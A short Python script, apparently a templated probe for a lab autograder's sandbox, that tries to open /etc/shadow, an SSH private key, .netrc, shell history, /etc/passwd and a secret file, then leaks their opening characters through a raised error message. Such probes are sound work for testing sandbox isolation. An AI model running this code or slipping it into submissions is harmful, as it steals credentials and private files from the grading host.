"""Reads private files of the grader: keys, passwords, other people's files."""
# lab: 01, todo: 1

for path in (
    "@secret_file@",
    "/etc/shadow",
    "@home@/.ssh/id_rsa",
    "@home@/.netrc",
    "@home@/.bash_history",
    "/etc/passwd",
):
    try:
        text = open(path).read()
    except OSError:
        continue
    raise RuntimeError("@token@ read " + path + text[:40])
